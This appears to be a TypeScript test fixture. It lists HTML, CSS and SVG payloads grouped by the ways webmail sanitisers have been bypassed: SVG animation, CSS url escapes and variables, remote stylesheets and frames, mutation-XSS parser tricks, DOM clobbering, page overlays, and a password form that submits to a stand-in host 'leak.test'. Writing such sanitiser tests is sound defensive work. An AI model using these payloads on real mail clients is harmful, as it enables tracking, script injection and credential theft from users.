import type { Vector } from "./mail-html.page";

/** Where each of them would call, so that a request is seen for what it is. */
const leak = "https://leak.test";

/**
 * One message and more for each way in which sanitisers of webmails have been got round lately. The corpus holds many of each; these stand
 * here so that none is lost with it.
 */
export const attackClasses: Record<string, string[]> = {
  "SVG animation of a style, a link or by a step": [
    `<svg><rect width=9 height=9><animate attributeName=style values="background:url(${leak}/1)" dur=1s /></rect></svg>`,
    `<svg><a><animate attributeName=href values="javascript:alert(1)" /><text y=20>go</text></a></svg>`,
    `<svg><rect><animate attributeName=fill by="url(${leak}/2)" from="url(${leak}/3)" /></rect></svg>`,
    `<svg><set attributeName=onclick to=alert(1) /><text y=20 onclick=alert(1)>x</text></svg>`,
    `<svg><image href="${leak}/4" /><use href="${leak}/5#a" /><feImage href="${leak}/6" /></svg>`,
  ],
  "a paint server or filter of an SVG by its address": [
    `<svg><rect fill="url(${leak}/1#a)" stroke="url(${leak}/2#a)" filter="url(${leak}/3#a)" width=9 height=9 /></svg>`,
    `<p style="filter:url(${leak}/4#a);mask:url(${leak}/5);clip-path:url(${leak}/6)">x</p>`,
  ],
  "an address in a style that is never closed, or is spelt with escapes": [
    `<p style="background:url(${leak}/1">x</p>`,
    `<p style="background:\\75\\72\\6C(${leak}/2)">x</p>`,
    `<style>p{background:url(${leak}/3</style><p>x</p>`,
    `<style>p{background:url("${leak}/4\n)}</style><p>x</p>`,
    `<p style='background:u/**/rl(${leak}/5)'>x</p>`,
  ],
  "an address in a variable, an image set or another function": [
    `<p style="--a:url(${leak}/1);background:var(--a)">x</p>`,
    `<p style="background:var(--none,url(${leak}/2))">x</p>`,
    `<p style='background:image-set("${leak}/3" 1x);list-style:-webkit-image-set(url(${leak}/4) 1x)'>x</p>`,
    `<p style='background:cross-fade(url(${leak}/5),url(${leak}/6),50%)'>x</p>`,
    `<style>@property --b{syntax:"<image>";inherits:false;initial-value:url(${leak}/7)}p{background:var(--b)}</style><p>x`,
  ],
  "the background of the body and of tables": [
    `<body background="${leak}/1"><table background="${leak}/2"><td background="${leak}/3">x</table>`,
    `<body style="background-image:url(${leak}/4)" onload=alert(1)>x`,
  ],
  "covering what is around the message": [
    `<div style="position:fixed !important;inset:0;z-index:9999;background:red">x</div>`,
    `<style>:root,html,body,*{position:fixed!important;inset:0;visibility:hidden}</style><p>x</p>`,
    `<div popover id=a>x</div><button popovertarget=a>open</button><dialog open>y</dialog>`,
  ],
  "a stylesheet, a font or a frame from elsewhere": [
    `<link rel=stylesheet href="${leak}/1"><link rel=prefetch href="${leak}/2"><link rel=dns-prefetch href=//leak.test>`,
    `<style>@import "${leak}/3";@import url(${leak}/4);@font-face{font-family:a;src:url(${leak}/5)}p{font-family:a}</style><p>x`,
    `<iframe src="${leak}/6"></iframe><object data="${leak}/7"></object><embed src="${leak}/8">`,
    `<meta http-equiv=refresh content="0;url=${leak}/9"><base href="${leak}/"><img src=10>`,
  ],
  "pictures and media with more than one address": [
    `<img srcset="${leak}/1 1x" src="${leak}/2"><picture><source srcset="${leak}/3"><img></picture>`,
    `<video poster="${leak}/4" src="${leak}/5" autoplay></video><audio src="${leak}/6" autoplay></audio>`,
    `<input type=image src="${leak}/7"><a ping="${leak}/8" href="#m-x">x</a>`,
  ],
  "other readings of the same text": [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
    `\u001b$B<p title="\u001b(B><img src=x onerror=alert(1)>">`,
  ],
  "names that stand for something of the page": [
    `<form id=location><input name=href></form><img name=body><a id=document></a><img name=getElementById>`,
    `<form action="${leak}/1"><input name=password type=password autofocus onfocus=alert(1)><button>go</button></form>`,
  ],
};

export const classVectors: Vector[] = Object.entries(attackClasses).flatMap(([name, all]) =>
  all.map((html, index) => ({ id: `${name.replace(/\W+/g, "-")}-${index}`, html })),
);
